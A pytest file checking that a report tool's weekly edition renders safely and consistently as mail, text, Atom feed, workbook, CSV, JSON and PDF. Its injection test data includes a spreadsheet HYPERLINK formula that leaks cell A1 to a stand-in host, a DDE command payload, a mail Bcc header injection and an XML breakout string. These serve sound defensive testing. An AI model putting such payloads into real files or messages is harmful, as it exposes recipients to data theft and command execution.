"""Every form of an edition, opened again by what others use to read it."""

import csv
import io
import json
import re
import sys
from dataclasses import replace
from pathlib import Path

import feedparser
import html5lib
import openpyxl
import pytest
from lxml import etree, html

from reports.blocks import Cards, EditionView, Table
from reports.clean import clean
from reports.errors import MissingExtra
from reports.forms import feed, mail, pdf, text
from reports.forms.data import BYTE_ORDER_MARK
from reports.forms.form import Form, feed_of, rendered
from reports.material import BRAND, REGULATOR, Material
from reports.view import view
from tests.reports.build import NOW
from tests.reports.test_hostile import HOSTILE, poisoned
from tests.reports.week import rich_week

SCHEMA = etree.RelaxNG(etree.parse(Path(__file__).parent / "atom.rng"))
NAME = "tag:watch.example.org,2026-11-16:exowatch/regulator/46/0123456789"
HOSTILE_HERE = {
    **HOSTILE,
    "formula": '=HYPERLINK("http://a.example/?x="&A1,"click")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "wide": "＝1+1",
    "header": "Subject: x\r\nBcc: all@example.org\r\n\r\nbody",
    "end": "]]></content></entry>",
    "not a character": "a\ufffe\uffff\ufdd0b",
}


@pytest.fixture(params=[REGULATOR, BRAND])
def told(request: pytest.FixtureRequest) -> EditionView:
    """The rich week for each audience."""
    return view(replace(rich_week(), audience=request.param), NOW, 46, "watch@example.org")


def feed_with(told: EditionView) -> bytes:
    """A feed of one edition."""
    return feed_of([feed.Entry(NAME, told, "0046-regulator.html")], "feed.xml")


def parsed(page: str) -> html.HtmlElement:
    """The tree of a page."""
    return html.document_fromstring(page)


def links(page: str) -> list[str]:
    """Where a page leads to."""
    return [str(each.get("href")) for each in parsed(page).iter() if "href" in each.attrib]


def words_of(page: str) -> str:
    """All that a page says."""
    return "".join(str(each) for each in parsed(page).itertext())


def cells(body: bytes) -> list[tuple[object, str]]:
    """The value and type of every cell of a workbook."""
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [(cell.value, cell.data_type) for page in book for row in page.iter_rows() for cell in row]


@pytest.mark.parametrize("form", [form for form in Form if form is not Form.FEED])
def test_a_form_is_the_same_bytes_each_time(told: EditionView, form: Form) -> None:
    assert rendered(told, form) == rendered(told, form)


def test_the_mail_is_small_whole_and_asks_for_nothing(told: EditionView) -> None:
    made = mail.rendered(told)
    html5lib.HTMLParser(strict=True).parse(made.html)
    assert len(made.html.encode()) <= mail.LIMIT
    assert not made.shortened
    tags = {str(each.tag) for each in html.document_fromstring(made.html).iter("*")}
    assert not tags & {"svg", "img", "script", "link", "iframe", "object", "form", "base"}
    assert not re.search(r"url\(|@import|var\(|src=", made.html)
    assert made.html.count("<style") == 1
    assert "prefers-color-scheme:dark" in made.html
    assert links(made.html)
    assert all(href.startswith("https://") for href in links(made.html))


def test_the_mail_begins_with_what_a_list_of_mails_shows(told: EditionView) -> None:
    (body,) = parsed(mail.rendered(told).html).iter("body")
    first = next(each for each in body.iter() if (each.text or "").strip())
    assert first.text == told.lead
    assert "display:none" in str(first.get("style"))


def test_cards_beyond_the_limit_become_lines(told: EditionView) -> None:
    cards = [card for section in told.sections for b in section.blocks if isinstance(b, Cards) for card in b.cards]
    whole = mail.rendered(told).html
    for limit in range(len(whole.encode()) - 1, 5_000, -4_000):
        made = mail.rendered(told, limit)
        assert made.shortened
        assert "Shortened to fit a mail" in made.html
        assert told.lead in made.html
        if made.html.count('role="presentation" cellpadding') > 3:
            assert len(made.html.encode()) <= limit
    smaller = mail.rendered(told, len(whole.encode()) - 1).html
    for card in cards:
        assert "".join(part.text for part in card.quote)[:20] in words_of(smaller)


def test_a_mail_of_ten_long_cards_stays_below_the_limit(rich: Material) -> None:
    told = view(rich, NOW, 46)
    (section,) = [s for s in told.sections if s.anchor == "look-first"]
    blocks = tuple(replace(b, cards=b.cards * 10) if isinstance(b, Cards) else b for b in section.blocks)
    many = replace(told, sections=tuple(replace(s, blocks=blocks) if s is section else s for s in told.sections))
    made = mail.rendered(many)
    assert made.shortened
    assert 80_000 < len(made.html.encode()) <= mail.LIMIT
    html5lib.HTMLParser(strict=True).parse(made.html)


def test_a_thousand_sites_cost_no_card(rich: Material) -> None:
    sites = tuple(replace(rich.coverage[0], site=f"site {number}") for number in range(1_000))
    told = view(replace(rich, coverage=sites), NOW, 46)
    made = mail.rendered(told)
    assert not made.shortened
    assert len(made.html.encode()) <= mail.LIMIT
    assert made.html.count('class="cc ') == 3
    assert mail.brief(told) == told
    assert "980 more sites are listed in this edition’s workbook and JSON." in words_of(made.html)
    assert len(told.sheets[-1].rows) == 1_000


def test_tables_without_an_end_cost_no_card(rich: Material) -> None:
    told = view(rich, NOW, 46)
    section = next(each for each in told.sections if each.anchor == "not-seen")
    blocks = tuple(replace(b, rows=b.rows * 300) if isinstance(b, Table) else b for b in section.blocks)
    told = replace(told, sections=tuple(replace(s, blocks=blocks) if s is section else s for s in told.sections))
    made = mail.rendered(told)
    assert made.shortened
    assert len(made.html.encode()) <= mail.LIMIT
    assert made.html.count('class="cc ') == 3
    assert "Shortened to fit a mail" in text.rendered(mail.brief(told))
    assert len(text.rendered(mail.brief(told))) < len(text.rendered(told)) / 3
    assert mail.brief(view(rich, NOW, 46)) == view(rich, NOW, 46)


def test_the_text_holds_every_card_and_keeps_its_lines_short(told: EditionView) -> None:
    made = text.rendered(told)
    flat = " ".join(made.split())
    for section in told.sections:
        assert (section.title in flat) is not section.paper
        for block in section.blocks:
            for card in block.cards if isinstance(block, Cards) else ():
                assert "".join(part.text for part in card.title) in flat
                assert "".join(part.text for part in card.quote).replace("*", "") in flat.replace("*", "")
    assert all(number.label in flat for number in told.numbers)
    assert all(len(line) <= text.WIDTH or " " not in line.strip() for line in made.splitlines())
    assert "&" + "amp;" not in made


def test_the_feed_keeps_to_the_schema_and_is_read(told: EditionView) -> None:
    body = feed_with(told)
    SCHEMA.assertValid(etree.fromstring(body))
    read = feedparser.parse(body)
    assert not read.bozo
    assert read.feed.id == "tag:watch.example.org,2026-11-16:exowatch/regulator"
    (entry,) = read.entries
    assert (entry.id, entry.title, entry.summary) == (NAME, told.title, told.lead)
    assert entry.links[0].href == "0046-regulator.html"
    assert entry.content[0].type == "text/html"
    html5lib.HTMLParser(strict=True).parseFragment(entry.content[0].value)


def test_a_feed_names_the_newest_twenty(told: EditionView) -> None:
    entries = [feed.Entry(f"{NAME}{n}", replace(told, number=n), f"{n}.html") for n in range(30, 0, -1)]
    read = feedparser.parse(feed_of(entries, "feed.xml"))
    assert [entry.links[0].href for entry in read.entries] == [f"{n}.html" for n in range(30, 10, -1)]


def test_the_schema_refuses_what_is_no_feed(told: EditionView) -> None:
    tree = etree.fromstring(feed_with(told))
    tree.remove(tree[2])
    assert not SCHEMA.validate(tree)


def test_the_workbook_holds_every_sheet(told: EditionView) -> None:
    book = openpyxl.load_workbook(io.BytesIO(rendered(told, Form.XLSX)))
    assert book.sheetnames == [told.name, *(sheet.title for sheet in told.sheets)]
    for sheet in told.sheets:
        page = book[sheet.title]
        assert [cell.value for cell in page[1]] == list(sheet.heads)
        assert page.max_row == max(1, len(sheet.rows)) if not sheet.rows else len(sheet.rows) + 1
        assert page.freeze_panes == "A2"
    assert [page[0].value for page in book["Changes"].iter_rows(min_row=2)] == list(told.changes)
    cover = [cell.value for row in book[told.name].iter_rows() for cell in row if cell.value]
    assert {told.title, told.lead, told.period} <= set(cover)
    assert book.properties.created == NOW.replace(tzinfo=None)


def test_csv_and_json_hold_the_same_changes(told: EditionView) -> None:
    rows = list(csv.DictReader(io.StringIO(rendered(told, Form.CSV).decode("utf-8-sig"))))
    kept = json.loads(rendered(told, Form.JSON))
    assert [int(row["change"]) for row in rows] == list(told.changes)
    assert [row["change"] for row in kept["changes"]] == list(told.changes)
    assert kept["title"] == told.title
    assert (kept["edition"], kept["made_at"]) == (46, "2026-11-16T07:00:00Z")
    assert [row["subject"] for row in rows] == [row["subject"] for row in kept["changes"]]


def test_the_pdf_is_tagged_and_of_the_expected_length(told: EditionView) -> None:
    from weasyprint import HTML

    from reports.digest import render

    body = rendered(told, Form.PDF)
    assert body.startswith(b"%PDF-1.7")
    loose = HTML(string=render(told)).write_pdf(pdf_variant=pdf.VARIANT, uncompressed_pdf=True)
    assert b"/MarkInfo" in loose
    assert b"/StructTreeRoot" in loose
    assert b"pdfuaid:part" in loose
    (pages,) = re.findall(rb"/Type /Pages/Kids.*?/Count (\d+)", loose)
    assert int(pages) == {REGULATOR: 4, BRAND: 3}[told.audience]
    assert f'<rdf:li xml:lang="x-default">{told.title} · {told.name} 46</rdf:li>'.encode() in loose


@pytest.mark.parametrize("hostile", HOSTILE_HERE.values(), ids=HOSTILE_HERE)
@pytest.mark.parametrize("audience", [REGULATOR, BRAND])
def test_hostile_text_stays_text_in_every_form(hostile: str, audience: str) -> None:
    told = clean(view(poisoned(replace(rich_week(), audience=audience), hostile), NOW, 46, hostile))
    made = mail.rendered(told)
    html5lib.HTMLParser(strict=True).parse(made.html)
    assert not parsed(made.html).xpath("//script|//img|//@onerror")
    assert all(href.startswith(("http://", "https://")) for href in links(made.html))
    assert len(made.html.encode()) <= mail.LIMIT
    plain = text.rendered(told)
    body = feed_with(told)
    SCHEMA.assertValid(etree.fromstring(body))
    assert not feedparser.parse(body).bozo
    for entry in feedparser.parse(body, sanitize_html=False).entries:
        html5lib.HTMLParser(strict=True).parseFragment(entry.content[0].value)
        assert "<script" not in entry.content[0].value
    for shown in (made.html, plain, body.decode(), rendered(told, Form.JSON).decode()):
        assert not re.search(r"[\x00-\x08\x0e-\x1f\u202a-\u202e\u2066-\u2069\ufffe\uffff]", shown)
    assert all(kind in {"s", "n", "b"} and kind != "f" for _, kind in cells(rendered(told, Form.XLSX)))
    table = rendered(told, Form.CSV).decode()
    assert table.startswith(BYTE_ORDER_MARK)
    for row in csv.reader(io.StringIO(table.removeprefix(BYTE_ORDER_MARK))):
        assert not [cell for cell in row if cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]


def test_hostile_text_stays_text_on_paper(rich: Material, quiet: Material) -> None:
    told = view(
        poisoned(rich, " ".join(HOSTILE_HERE[name] for name in ("script", "bidi", "formula", "header"))), NOW, 46
    )
    assert rendered(told, Form.PDF).startswith(b"%PDF")
    assert rendered(view(poisoned(quiet, HOSTILE["word"]), NOW, 46), Form.PDF).startswith(b"%PDF")


def test_without_weasyprint_the_line_to_type_is_told(told: EditionView, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setitem(sys.modules, "weasyprint", None)
    with pytest.raises(MissingExtra, match=r"run `pip install 'exowatch\[pdf\]'`"):
        rendered(told, Form.PDF)
